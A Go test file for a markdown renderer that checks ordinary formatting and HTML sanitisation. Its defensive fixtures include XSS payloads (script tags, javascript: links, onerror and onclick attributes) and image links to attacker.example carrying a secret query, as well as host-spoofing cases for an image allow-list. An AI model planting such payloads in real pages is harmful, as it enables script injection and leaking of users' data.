package render_test

import (
	"strings"
	"testing"

	"github.com/parley-dev/parley/render"
)

func TestHTML(t *testing.T) {
	t.Parallel()
	r := render.New(render.Config{})
	tests := []struct {
		in          string
		has, hasNot []string
	}{
		{in: "# Title\n\n*em* and `code`", has: []string{"<h1", "<em>em</em>", "<code>code</code>"}},
		{in: "<script>alert(1)</script>", hasNot: []string{"<script"}},
		{in: `<div onclick="x()">hi</div>`, has: []string{"&lt;div onclick="}, hasNot: []string{"<div"}}, // text, not an attribute
		{in: "[a](javascript:alert(1))", hasNot: []string{"javascript:"}},
		{in: "| a | b |\n|---|---|\n| 1 | 2 |", has: []string{"<table>", "<td>1</td>"}},
		{in: "<https://example.com>", has: []string{`href="https://example.com"`, `rel="nofollow"`}},
		// Raw HTML is what the author wrote: shown as text, never dropped, never markup.
		{in: "How do I use the <details> element?", has: []string{"How do I use the &lt;details&gt; element?"}, hasNot: []string{"<details"}},
		{in: "A List<T> of T", has: []string{"A List&lt;T&gt; of T"}},
		{in: "<div onclick=\"x()\">hi</div>\n\nafter", has: []string{"<p>&lt;div onclick=&#34;x()&#34;&gt;hi&lt;/div&gt;</p>", "<p>after</p>"}, hasNot: []string{"<div"}},
		{in: "<img src=x onerror=alert(1)>", has: []string{"&lt;img src=x onerror=alert(1)&gt;"}, hasNot: []string{"<img"}},
		// What frontends build on.
		{in: "```go\nfunc main() {}\n```", has: []string{`<pre><code class="language-go">func main() {}`}},
		{in: "```c++\nint x;\n```", has: []string{`<code class="language-c++">`}},
		{in: "```go onclick=x\nx\n```", hasNot: []string{"onclick"}},
		{in: "- [x] done\n- [ ] todo", has: []string{`<input checked="" disabled="" type="checkbox"> done`, `<input disabled="" type="checkbox"> todo`}},
		{in: "Note[^1].\n\n[^1]: The note.", has: []string{`<sup id="fnref:1"><a href="#fn:1" class="footnote-ref"`, `<li id="fn:1">`, "The note."}},
		{in: "~~gone~~", has: []string{"<del>gone</del>"}},
		// Images load by themselves only from allowed hosts: by default none.
		{in: "![x](https://attacker.example/?secret=abc)", has: []string{`<a href="https://attacker.example/?secret=abc" rel="nofollow">x</a>`}, hasNot: []string{"<img"}},
		{in: "![](https://attacker.example/p.png)", has: []string{`>https://attacker.example/p.png</a>`}, hasNot: []string{"<img"}},
		{in: `![*a* b](https://attacker.example/p.png "T")`, has: []string{`title="T"`, "<em>a</em> b</a>"}, hasNot: []string{"<img"}},
		{in: "![x](javascript:alert(1))", hasNot: []string{"javascript:", "<img"}},
	}
	for _, tt := range tests {
		got := r.HTML(tt.in)
		for _, s := range tt.has {
			if !strings.Contains(got, s) {
				t.Errorf("HTML(%q) = %q, lacks %q", tt.in, got, s)
			}
		}
		for _, s := range tt.hasNot {
			if strings.Contains(got, s) {
				t.Errorf("HTML(%q) = %q, contains %q", tt.in, got, s)
			}
		}
	}
}

// TestImageHosts: images load from the hosts allowed, and only from them; everything
// else is a link.
func TestImageHosts(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name  string
		hosts []string
		src   string
		img   bool
	}{
		{"no hosts", nil, "https://img.example.com/a.png", false},
		{"listed host", []string{"img.example.com"}, "https://img.example.com/a.png", true},
		{"listed host, any case", []string{"IMG.example.com"}, "https://Img.Example.com/a.png", true},
		{"other host", []string{"img.example.com"}, "https://attacker.example/a.png", false},
		{"suffix is not the host", []string{"img.example.com"}, "https://img.example.com.attacker.example/a.png", false},
		{"glob", []string{"*.example.com"}, "https://cdn.example.com/a.png", true},
		{"glob, other domain", []string{"*.example.com"}, "https://example.org/a.png", false},
		{"every host", []string{"*"}, "https://anywhere.example/a.png", true},
		{"every host, not a relative path", []string{"*"}, "/local.png", false},
		{"every host, not data", []string{"*"}, "data:image/png;base64,AAAA", false},
	} {
		got := render.New(render.Config{ImageHosts: tt.hosts, CacheBytes: -1}).HTML("![alt](" + tt.src + ")")
		if hasImg := strings.Contains(got, "<img"); hasImg != tt.img {
			t.Errorf("%s: %q, want an img: %v", tt.name, got, tt.img)
		}
		if tt.img && !strings.Contains(got, `alt="alt"`) {
			t.Errorf("%s: %q lacks its alt text", tt.name, got)
		}
	}
}
